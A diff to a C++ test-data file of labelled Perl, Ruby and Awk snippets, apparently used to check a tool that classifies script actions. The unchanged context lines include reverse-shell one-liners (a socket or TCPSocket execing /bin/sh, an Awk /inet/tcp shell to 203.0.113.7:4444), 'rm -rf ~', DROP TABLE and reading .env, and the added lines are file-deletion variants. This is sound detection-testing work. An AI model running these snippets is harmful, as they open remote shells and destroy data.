@@ -51,6 +51,12 @@ constexpr Sample kPerl[] = {
     {"system(<<X);\nrm -rf ~\nX\n", "$ rm -rf ~\\n"},
     {"use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,\">&S\");exec(\"/bin/sh -i\");", "$ /bin/sh -i\nnc -e /bin/sh <?>"},
     {"$dbh->do('DROP TABLE users')", "sql drop table users"},
+    {"unlink </a/*>", "rm /a/*"},
+    {"while (<STDIN>) { print }", ""},
+    {"unlink for glob('/a/*')", "rm /a/*"},
+    {"rmtree($_) for glob('/a/*')", "rm -r -f /a/*"},
+    {"find(sub { unlink $_ }, '/a')", "rm /a/*"},
+    {"system { 'rm' } 'rm', 'x'", "$ rm x"},
 };
 
 constexpr Sample kRuby[] = {
@@ -97,6 +103,10 @@ constexpr Sample kRuby[] = {
     {"system(<<~X)\n  rm -rf ~\nX\n", "$   rm -rf ~\\n"},
     {"require 'socket'; f=TCPSocket.open('x',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)", "$ /bin/sh -i <&<?> >&<?> 2>&<?>\nnc -e /bin/sh <?>"},
     {"ActiveRecord::Base.connection.execute('DROP TABLE users')", "sql drop table users"},
+    {"Dir.glob('/a/*').each { |f| File.delete(f) }", "rm /a/*"},
+    {"Dir.each_child('/a') do |p| File.delete(\"/a/#{p}\") end", "rm /a/*"},
+    {"Kernel.send(:system, 'rm x')", "$ rm x"},
+    {"Dir.glob('/a').each(&File.method(:delete))", "rm /a"},
 };
 
 constexpr Sample kPhp[] = {
@@ -150,6 +160,8 @@ constexpr Sample kAwk[] = {
     {"BEGIN { while ((getline l < \".env\") > 0) print l }", "@read .env"},
     {"BEGIN { s = \"/inet/tcp/0/203.0.113.7/4444\"; while (42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }",
      "nc -e /bin/sh <?>"},
+    {"BEGIN { system(sprintf(\"rm %s\", \"x\")) }", "$ rm x"},
+    {"BEGIN { system(\"ls \" ENVIRON[\"HOME\"]) }", "$ ls /home/dev"},
 };
 
 }  // namespace
